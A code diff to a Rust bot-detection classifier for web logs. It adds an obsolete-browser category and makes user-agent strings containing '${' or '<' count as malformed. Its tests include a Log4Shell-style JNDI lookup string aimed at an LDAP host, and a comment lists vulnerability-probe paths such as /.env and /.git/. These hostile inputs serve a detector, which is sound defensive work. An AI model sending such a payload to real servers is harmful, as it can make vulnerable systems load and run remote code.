@@ -38,6 +38,9 @@ pub enum Reason {
     /// Layer 1: a browser version released after the day of the hit, or one that never existed
     /// (`Windows NT 11.0`, Safari 20).
     FutureBrowser = 13,
+    /// Layer 1, decided again in rollup: a browser that does not update itself (IE, Safari, old
+    /// Opera) years out of date; a person's after all if it loads what its pages need.
+    ObsoleteBrowser = 14,
     /// Layer 2: a vulnerability probe (`/wp-login.php`, `/.env`, `/.git/`...).
     ProbePath = 20,
     /// Layer 2: fetched `robots.txt` (the client is a bot for that day).
@@ -78,7 +81,7 @@ pub enum Reason {
 
 impl Reason {
     /// All reasons, in code order.
-    pub const ALL: [Reason; 30] = [
+    pub const ALL: [Reason; 31] = [
         Reason::SearchCrawler,
         Reason::AiCrawler,
         Reason::SocialPreview,
@@ -92,6 +95,7 @@ impl Reason {
         Reason::MalformedAgent,
         Reason::OldBrowser,
         Reason::FutureBrowser,
+        Reason::ObsoleteBrowser,
         Reason::ProbePath,
         Reason::RobotsTxt,
         Reason::GarbageRequest,
@@ -132,6 +136,7 @@ impl Reason {
             Reason::MalformedAgent => "ua-malformed",
             Reason::OldBrowser => "ua-old-browser",
             Reason::FutureBrowser => "ua-future",
+            Reason::ObsoleteBrowser => "ua-obsolete",
             Reason::ProbePath => "probe-path",
             Reason::RobotsTxt => "robots-txt",
             Reason::GarbageRequest => "garbage-request",
@@ -166,7 +171,12 @@ impl Reason {
             Reason::GenericBot => "bot words in the agent (bot, crawler, spider...)",
             Reason::EmptyAgent => "no user agent in a log that records one",
             Reason::MalformedAgent => "an agent no browser sends",
-            Reason::OldBrowser => "browser version years out of date on the day of the hit",
+            Reason::OldBrowser => {
+                "self-updating browser (Chrome, Firefox) years out of date on the day of the hit"
+            }
+            Reason::ObsoleteBrowser => {
+                "IE, Safari or old Opera years out of date, loading no subresources"
+            }
             Reason::FutureBrowser => {
                 "browser version newer than the day of the hit, or one that never existed"
             }
@@ -308,12 +318,16 @@ impl AgentPatterns {
         }
         if lower.len() < 10
             || !(lower.contains('/') || lower.contains('('))
+            || !lower.starts_with(|c: char| c.is_ascii_alphanumeric())
+            || lower.contains("${")
+            || lower.contains('<')
             || BARE_AGENTS.contains(&lower.as_str())
         {
             return Some(Reason::MalformedAgent);
         }
         match browser_age::judge(&lower, ts_ms) {
             Age::Old => Some(Reason::OldBrowser),
+            Age::Obsolete => Some(Reason::ObsoleteBrowser),
             Age::Future => Some(Reason::FutureBrowser),
             Age::Plausible => None,
         }
@@ -506,7 +520,7 @@ mod tests {
         assert_eq!(v("XTC"), Some(Reason::MalformedAgent));
         assert_eq!(
             v("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"),
-            Some(Reason::OldBrowser)
+            Some(Reason::ObsoleteBrowser)
         );
         assert_eq!(v("Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36"), Some(Reason::OldBrowser));
         assert_eq!(v("Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36"), None, "two years old is fine");
@@ -519,6 +533,11 @@ mod tests {
             None
         );
         assert_eq!(v("Mozilla/5.0 (compatible)"), Some(Reason::MalformedAgent));
+        assert_eq!(
+            v("${jndi:ldap://192.0.2.1:1389/a}"),
+            Some(Reason::MalformedAgent)
+        );
+        assert_eq!(v("<title>(.*?)</title>"), Some(Reason::MalformedAgent));
         assert_eq!(
             v("Mozilla/5.0 (Windows NT 11.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0.0.0 Safari/537.36"),
             Some(Reason::FutureBrowser)
